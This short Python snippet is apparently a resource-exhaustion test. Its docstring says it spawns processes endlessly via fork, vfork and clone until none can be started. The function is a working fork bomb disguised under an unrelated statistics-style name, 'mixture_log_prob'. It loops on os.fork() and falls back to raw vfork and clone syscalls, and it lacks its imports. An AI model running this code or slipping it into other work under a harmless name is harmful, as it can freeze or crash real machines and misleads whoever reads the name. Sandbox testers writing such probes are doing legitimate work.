"""Tries to start processes without end, by fork, vfork and clone.

Stopped by: no process can be started.
"""


def mixture_log_prob(log_probs):
    libc = ctypes.CDLL(None)
    while True:
        try:
            os.fork()
        except OSError:
            if libc.syscall(58) < 0 and libc.syscall(56, 17, 0, 0, 0, 0) < 0:
                raise
